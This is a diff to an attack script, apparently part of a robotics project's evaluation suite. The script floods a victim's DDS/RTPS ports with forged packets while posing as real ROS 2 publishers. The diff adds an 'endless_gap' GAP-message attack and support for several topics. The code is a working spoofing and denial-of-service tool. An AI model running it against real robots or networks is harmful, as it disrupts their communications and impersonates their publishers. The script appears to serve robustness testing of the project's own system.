@@ -1,6 +1,6 @@
 """Attack with packets of RTPS, the protocol of DDS, from another machine: ``python -m evaluation.rtps_attack``.
 
-The attacker joins the domain to learn the ids of the publishers on a topic, and sends packets to all ports of the
+The attacker joins the domain to learn the ids of the publishers on some topics, and sends packets to all ports of the
 domain on the victim. It prints the number of packets.
 """
 
@@ -12,7 +12,7 @@ import socket
 import struct
 import sys
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 
 HEADER = b"RTPS\x02\x03\x01\x0f"
 INFO_DST, HEARTBEAT, GAP, ACKNACK, DATA, DATA_FRAG = 0x0E, 0x07, 0x08, 0x06, 0x15, 0x16
@@ -58,6 +58,12 @@ def gaps(chance: random.Random, known: bytes) -> bytes:
     return HEADER + known[:12] + submessage(GAP, content)
 
 
+def endless_gap(chance: random.Random, known: bytes) -> bytes:
+    """A gap in the name of a publisher: all its messages up to a number that takes days to count to."""
+    content = bytes(4) + known[12:16] + struct.pack("<iIiII", 0, 1, chance.randrange(1, 2**20), 0, 0)
+    return HEADER + known[:12] + submessage(GAP, content)
+
+
 def participants(chance: random.Random, known: bytes) -> bytes:
     """The announcement of a participant that does not exist, with a lease of 100 s."""
     prefix = b"\x01\x0f" + chance.randbytes(10)
@@ -84,6 +90,7 @@ ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
     "malformed": malformed,
     "heartbeats": heartbeats,
     "gaps": gaps,
+    "endless_gap": endless_gap,
     "participants": participants,
 }
 
@@ -94,32 +101,32 @@ def ports(domain: int) -> list[int]:
     return [base, *(base + 10 + offset for offset in range(2 * PARTICIPANTS))]
 
 
-def publishers(topic: str, timeout_s: float) -> Iterator[bytes]:
-    """Ids of the publishers on a topic."""
-    from socialbot.bridge.environment import spinning_node
+def publishers(topics: list[str], timeout_s: float) -> list[bytes]:
+    """Ids of one publisher on each topic; zeros if there is none."""
+    from socialbot.bridge.environment import spinning_node, wait_for
 
     with spinning_node("attacker") as ros:
-        deadline = time.monotonic() + timeout_s
-        while not (found := ros.get_publishers_info_by_topic(topic)) and time.monotonic() < deadline:
-            time.sleep(0.05)
-        yield from [bytes(one.endpoint_gid) for one in found]
+        wait_for(lambda: all(map(ros.get_publishers_info_by_topic, topics)), timeout_s)
+        found = [ros.get_publishers_info_by_topic(topic) for topic in topics]
+        return [bytes(each[0].endpoint_gid) if each else bytes(16) for each in found]
 
 
-def main(name: str, victim: str, topic: str, seconds: float) -> None:
-    """Attack ``victim`` for ``seconds``."""
-    known = next(publishers(topic, 20.0), bytes(16))
+def main(name: str, victim: str, topics: list[str], seconds: float) -> None:
+    """Attack ``victim`` for ``seconds`` in the name of the publishers on ``topics``."""
+    known = publishers(topics, 20.0)
     chance, made = random.Random(1), ATTACKS[name]
     targets = ports(int(os.environ["ROS_DOMAIN_ID"]))
     sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    print("begins", known.hex(), flush=True)
+    print("begins", *(each.hex() for each in known), flush=True)
     sent, end = 0, time.monotonic() + seconds
     while time.monotonic() < end:
         for _ in range(BATCH):
-            sender.sendto(made(chance, known), (victim, targets[sent % len(targets)]))
+            target = targets[sent % len(targets)]
+            sender.sendto(made(chance, known[sent // len(targets) % len(known)]), (victim, target))
             sent += 1
         time.sleep(PAUSE_S)
     print(sent, flush=True)
 
 
 if __name__ == "__main__":
-    main(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]))
+    main(sys.argv[1], sys.argv[2], sys.argv[3].split(","), float(sys.argv[4]))
